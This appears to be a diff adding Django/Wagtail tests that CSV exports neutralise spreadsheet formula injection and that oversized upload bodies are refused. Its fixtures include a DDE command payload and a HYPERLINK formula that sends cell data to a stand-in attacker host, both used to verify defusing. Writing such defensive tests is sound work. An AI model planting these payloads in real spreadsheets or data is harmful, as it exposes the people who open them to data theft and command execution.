@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 from django.conf import settings
 from django.contrib.staticfiles import finders
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
 from django.test import override_settings
 from django.urls import reverse
@@ -127,6 +128,31 @@ def test_wagtail_admin_csv_exports_never_run_as_formulas():
     writer = csv.DictWriter(stream, fieldnames=exporter.list_export)
     exporter.write_csv_row(writer, {"title": "-2+3+cmd|' /C calc'!A0", "count": -3})
     assert stream.getvalue() == "'-2+3+cmd|' /C calc'!A0,-3\r\n"
+
+
+def test_wagtail_admin_csv_exports_neutralise_related_objects_and_cells_after_semicolons():
+    """A related object is written as its text: the formula check runs on that text."""
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    class Titled:
+        def __str__(self):
+            return '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+    exporter = SpreadsheetExportMixin()
+    exporter.list_export = ["proposal", "body"]
+    stream = io.StringIO()
+    writer = csv.DictWriter(stream, fieldnames=exporter.list_export)
+    exporter.write_csv_row(writer, {"proposal": Titled(), "body": "ok;=1+1\n@SUM(A1)"})
+    proposal, body = next(csv.reader(io.StringIO(stream.getvalue())))
+    assert proposal.startswith("'=HYPERLINK")
+    assert body == "ok;'=1+1\n'@SUM(A1)"
+
+
+def test_a_body_larger_than_any_form_takes_is_refused_before_it_is_read(client, home_page):
+    with override_settings(REQUEST_BODY_MAX_BYTES=1024):
+        upload = SimpleUploadedFile("grande.pdf", b"%PDF-" + b"0" * 4096)
+        response = client.post("/account/login/", {"login": "a@example.org", "file": upload})
+    assert response.status_code == 400
 
 
 SQLITE_WRITERS = """
